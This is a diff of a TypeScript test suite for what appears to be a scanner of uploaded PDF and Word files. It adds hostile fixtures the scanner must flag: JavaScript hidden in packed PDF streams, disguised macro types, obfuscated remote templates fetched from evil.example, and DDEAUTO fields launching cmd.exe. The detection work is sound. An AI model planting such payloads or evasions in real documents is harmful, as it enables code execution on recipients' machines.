@@ -110,7 +110,14 @@ describe('cut short', () => {
 });
 
 describe('PDF', () => {
+  /** With another beginning of its streams. */
+  const respelt = (file: Bytes, beginning: string): Bytes =>
+    bytesOf(Buffer.from(file).toString('latin1').replaceAll('>>\nstream\n', beginning));
   const action = '<< /S /JavaScript /JS (app.alert(1)) >>';
+  const packedAction = {
+    dictionary: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
+    stream: deflateSync(`9 0 ${action}`),
+  };
   test.each([
     ['a script when it is opened', pdf([action], { catalogue: '/OpenAction 5 0 R' })],
     ['a script under an escaped name', pdf(['<< /S /J#61vaScript /JS (x) >>'])],
@@ -135,6 +142,31 @@ describe('PDF', () => {
     ['a list of attached files', pdf([], { catalogue: '/Names << /EmbeddedFiles 9 0 R >>' })],
     ['a film', pdf(['<< /Type /Annot /Subtype /RichMedia >>'])],
     ['a form with a program of its own', pdf(['<< /XFA 9 0 R >>'])],
+    ['such a form in pieces', pdf(['<< /XFA [(template) 9 0 R] >>'])],
+    [
+      'packed objects whose dictionary holds a word of our reader',
+      pdf([{ ...packedAction, dictionary: `${packedAction.dictionary} /X (obj)` }]),
+    ],
+    ['packed objects behind a comment', respelt(pdf([packedAction]), '>>%\nstream\n')],
+    ['packed objects behind a zero', respelt(pdf([packedAction]), '>>\0\nstream\n')],
+    [
+      'a stream in a comment',
+      pdf([`<< /X 1 %>>\nstream\n>> endobj 6 0 obj << /EF << >> >>`, { dictionary: '', stream: '' }]),
+    ],
+    ['packed objects behind blanks', respelt(pdf([packedAction]), '>>\nstream \n')],
+    [
+      'a script behind a comment in what looks like the content of a page',
+      pdf([{ dictionary: '', stream: `6 0 obj << /S%\n%x\r /JavaScript /JS (x) >> endobj` }]),
+    ],
+    [
+      'a script by a detour in what looks like the content of a page',
+      pdf([{ dictionary: '', stream: '6 0 obj << /S 7 0 R /JS (x) >> endobj 7 0 obj /JavaScript endobj' }]),
+    ],
+    [
+      'unnamed packed objects in what looks like the content of a page',
+      pdf([{ dictionary: '', stream: '6 0 obj << /N 1 /First 4 /Filter /FlateDecode >>\nstream\nx' }]),
+    ],
+    ['a script, and a list behind it', pdf(['<< /S%\n/JavaScript [ ] /JS (app.alert(1)) >>'])],
     ['an archive behind it', bytesOf(pdf(), docx())],
     ['an archive behind it, and an end behind that', bytesOf(pdf(), docx(), '\nstartxref\n9\n%%EOF\n')],
     ['a program behind it', bytesOf(pdf(), 'MZ\x90\0'.repeat(200))],
@@ -185,6 +217,10 @@ describe('DOCX', () => {
       'a type of macros alone',
       docx([], { more: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' }),
     ],
+    [
+      'a disguised type of macros',
+      docx([], { more: '<Default Extension="x" ContentType="application/vnd.ms-office.vba&#80;roject"/>' }),
+    ],
   ])('with %s is one with macros', (_, file) => {
     expect(verdict(file, 'cv.docx')).toBe('fileWithMacros');
   });
@@ -217,6 +253,47 @@ describe('DOCX', () => {
       docx([relation('attachedTemplate', '&#104;ttps://evil.example/t')]),
     ],
     ['a template on a share', docx([relation('attachedTemplate', 'file:///\\\\evil.example\\t.dotm')])],
+    [
+      'a template whose kind is disguised',
+      docx([relation('attached&#84;emplate', 'https://evil.example/t')]),
+    ],
+    [
+      'a template behind a bracket in another attribute',
+      docx([relation('attachedTemplate" Id="a>b', 'https://evil.example/t')]),
+    ],
+    [
+      'a template behind an attribute of another kind',
+      docx([
+        {
+          ...relation('', ''),
+          content:
+            '<Relationship x:Type="x" x:Target="Normal.dotm" Type="a/attachedTemplate" Target="https://evil.example/t" TargetMode="External"/>',
+        },
+      ]),
+    ],
+    [
+      'a template on a share, its slashes disguised',
+      docx([relation('attachedTemplate', 'file:///%5C%5Cevil.example%5Ct.dotm')]),
+    ],
+    [
+      'a field that starts a program under another prefix',
+      docx([part('word/header1.xml', '<x:instrText> DDEAUTO c:\\cmd.exe </x:instrText>')]),
+    ],
+    [
+      'a disguised field that starts a program',
+      docx([part('word/header1.xml', '<w:instrText> D&#68;&#x45;AUTO c:\\cmd.exe </w:instrText>')]),
+    ],
+    [
+      'a field that starts a program among raw text',
+      docx([part('word/header1.xml', '<w:instrText><![CDATA[DDEAUTO c:\\cmd.exe ]]></w:instrText>')]),
+    ],
+    ['a part in RTF', docx([part('word/afchunk.dat', '{\\rtf1{\\object}}')])],
+    [
+      'a control in another folder',
+      docx([part('word/x/control.xml')], {
+        more: '<Override PartName="/word/x/control.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
+      }),
+    ],
     ['an object from elsewhere', docx([relation('oleObject', 'mhtml:http://evil.example/x!x-usc:')])],
     ['something between its parts', zip(docxParts(), { between: 'MZ'.repeat(40) })],
     ['something behind it', bytesOf(docx(), '<script>alert(1)</script>')],
@@ -378,6 +455,10 @@ describe('files made to take long are answered as soon as others', () => {
       '<<',
       '[',
       '/S ',
+      '/S%',
+      '1%',
+      '%\n',
+      '1 1',
       '/',
       '%',
       '1 ',
@@ -390,7 +471,20 @@ describe('files made to take long are answered as soon as others', () => {
       (text) =>
         [`PDF of ${JSON.stringify(text)}`, bytesOf(pdf(), much(text), '\nstartxref\n0\n%%EOF\n')] as const,
     ),
-    ...['<', '<w:instrText', '<Relationship ', ' w:instr="', ' w:instr=', '<a:', 'DDE '].map(
+    ...[
+      '<',
+      '<w:instrText',
+      '<!--',
+      '<![CDATA[',
+      '<![CDATA[]]>',
+      '&#68;',
+      '<Relationship a="',
+      '<Relationship ',
+      ' w:instr="',
+      ' w:instr=',
+      '<a:',
+      'DDE ',
+    ].map(
       (text) =>
         [
           `DOCX of ${JSON.stringify(text)}`,
